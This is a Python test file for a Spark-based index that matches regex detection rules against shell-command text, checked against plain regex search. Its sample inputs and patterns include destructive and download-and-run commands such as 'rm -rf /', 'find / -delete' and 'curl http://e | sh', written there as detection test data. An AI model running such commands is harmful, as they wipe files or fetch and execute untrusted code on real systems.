"""Rules that come as a table, through the index of grams, against plain search."""

import json
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellgauge.catalogs.rules import RULES
from shellgauge.operators import patterns, rule_index
from shellgauge.sources import logs
from shellgauge.sources.adapters import TEMPLATES

EXTRA = ["", None, "ab", "rm -rf /", "RM  -RF ~", "x" * 5000 + " curl http://e | sh", "ſudo ls", "KELVIN Kill", "find / -delete", "curl http://e | sh"]
LOOSE = [r"\d{9}", r"a|b\|c", "", r"(sudo|doas)\s", r"^..$", "ls"]


def bank(spark, patterns_):
    return spark.createDataFrame([(i, f"r{i}", p) for i, p in enumerate(patterns_)], "ord int, rule_id string, pattern_regex string")


@pytest.mark.parametrize("most", [10_000, 3])
def test_same_as_plain_search(spark, monkeypatch, most):
    monkeypatch.setattr(rule_index, "MAX_BROADCAST_ROWS", most)
    rng = random.Random(2)
    made = [re.escape(" ".join(rng.choice(TEMPLATES).split()[:3])) for _ in range(400)]
    all_patterns = [r[5] for r in RULES] + LOOSE + made
    texts = list(enumerate(TEMPLATES + EXTRA + EXTRA))
    df = spark.createDataFrame([(i, t, "x", -1) for i, t in texts], "cmd_id long, text string, gram string, ord long")
    got = sorted((r["cmd_id"], r["ord"]) for r in rule_index.match_bank(df, bank(spark, all_patterns).withColumnRenamed("rule_id", "gram"), "cmd_id").collect())
    compiled = [re.compile(p, re.IGNORECASE) for p in all_patterns]
    assert got == sorted((i, k) for i, t in texts if t is not None for k, p in enumerate(compiled) if p.search(t))


def test_plan_has_no_nested_loop(spark):
    df = spark.createDataFrame(list(enumerate(TEMPLATES)), "cmd_id long, text string")
    plan = rule_index.match_bank(df, bank(spark, [r[5] for r in RULES] + LOOSE), "cmd_id")._jdf.queryExecution().toString()
    assert "NestedLoop" not in plan and "Cartesian" not in plan


def test_rarest_gram_is_posted(spark):
    texts = spark.createDataFrame([(1, "curl abc long run"), (2, "curl xyz long run"), (3, "curl xyz long")], "k long, text string")
    required = rule_index.required_grams(bank(spark, [r"curl\s+abc", r"curl\s+xyz", r"curl\s+long run", r"\d+"]))
    got = {r["ord"]: r["gram"] for r in rule_index.postings(required, texts).collect()}
    assert got[0] == "abc" and got[1] == "xyz" and got[2] == "long r" and 3 not in got


def test_empty(spark):
    none = spark.createDataFrame([], "cmd_id long, text string")
    assert rule_index.match_bank(none, bank(spark, ["abc", "."]), "cmd_id").collect() == []
    one = spark.createDataFrame([(1, "abc")], "cmd_id long, text string")
    assert rule_index.match_bank(one, bank(spark, []), "cmd_id").collect() == []


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_every_match_holds_all_runs(data):
    pattern = data.draw(st.sampled_from([r[5] for r in RULES] + [
        r"ab+c", r"ab*cde", r"x{2,3}yz", r"a{0,2}bcd", r"foo\.bar\(baz", r"[]a]bcd", r"[^]a]bcd[\]x]ef", r"\x41bcAde", r"(?:ab|c)def?gh", r"a\|b", r"\bfoo\b", r"ab+?cd",
    ]))
    text = data.draw(st.from_regex(re.compile(pattern, re.ASCII)))
    assert all(run in text.lower() for run in patterns.required_runs(pattern))


def test_runs():
    assert patterns.required_runs(r"ab+cde*f") == ["ab", "bcd", "f"]
    assert patterns.required_runs(r"curl\s+-o /tmp(x|y)z") == ["curl", "-o /tmp", "z"]
    assert patterns.required_runs("a|b") == [] and patterns.required_runs(r"\Qa.b\E") == []


def test_a_file_is_read_and_matched(spark, tmp_path):
    rules = [{"rule_id": f"X-{i}", "description": "", "failure_family": "F1", "mitre_techniques": [], "confidence": 0.5, "provenance_tier": "manual", "pattern_regex": p}
             for i, p in enumerate([r"\brm\s+-rf", "shutdown"])]
    (tmp_path / "bank.json").write_text(json.dumps({"_meta": {"version": "1", "date": "d", "total_rules": 2}, "rules": rules}))
    texts = spark.createDataFrame([(1, "rm  -rf x"), (2, "shutdown now; rm -rf y"), (3, "ls")], "k long, text string")
    got = rule_index.match_bank(texts, logs.scan_rule_bank(spark, str(tmp_path / "bank.json")), "k").collect()
    assert sorted((r["k"], r["ord"]) for r in got) == [(1, 0), (2, 0), (2, 1)]


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_every_match_holds_a_needed_literal(data):
    pattern = data.draw(st.sampled_from([r[5] for r in RULES] + [
        r"a[ \t]+b[\r\n]+cd", r"(?:rm|dd)\s*-", r"x{2,3} +yz", r"(ab|c\s+d)+e", r"a(b|)c", r"\bfoo\b  bar", r"a(?=b)bc", r"[^ ]a\s?b",
    ]))
    text = data.draw(st.from_regex(re.compile(pattern, re.ASCII)))
    key = re.sub(r"[\t\n\x0b\x0c\r ]+", " ", text.lower())
    assert all(any(x in key for x in among) for among in patterns.needed_literals(pattern))


def test_needed_literals():
    assert patterns.needed_literals(r"(curl|wget)\s+-o  /tmp") == [["curl", "wget"], [" -o /tmp"]]
    assert patterns.needed_literals(r"a|\d") == [] and patterns.needed_literals(r"\Qa.b\E") == [] and patterns.needed_literals("[a&&[b]]c") == []


@pytest.mark.parametrize("most", [300, 0])
def test_words_in_a_row_are_posted_under_a_gram_that_joins_them(spark, monkeypatch, most):
    """The words of a rule are in every text, the rule in one: one pair is met, whatever lies between the words."""
    monkeypatch.setattr(rule_index, "MAX_PLAIN", most)
    texts = spark.createDataFrame([(1, "alpha beta gamma"), (2, "beta alpha gamma"), (3, "gamma\t\n alpha  beta"), (4, None)], "k long, text string")
    rules = bank(spark, [r"beta[ \t\r\n]+alpha", r"alpha\s+beta", r"gam"])
    required = rule_index.required_grams(rules, joined=True)
    assert {r["ord"]: r["gram"] for r in rule_index.postings(required, texts).collect()} == {0: " alph", 1: " beta", 2: "gam"}
    assert sorted((r["k"], r["ord"]) for r in rule_index.match_bank(texts, rules, "k").collect()) == [(1, 1), (1, 2), (2, 0), (2, 2), (3, 1), (3, 2)]
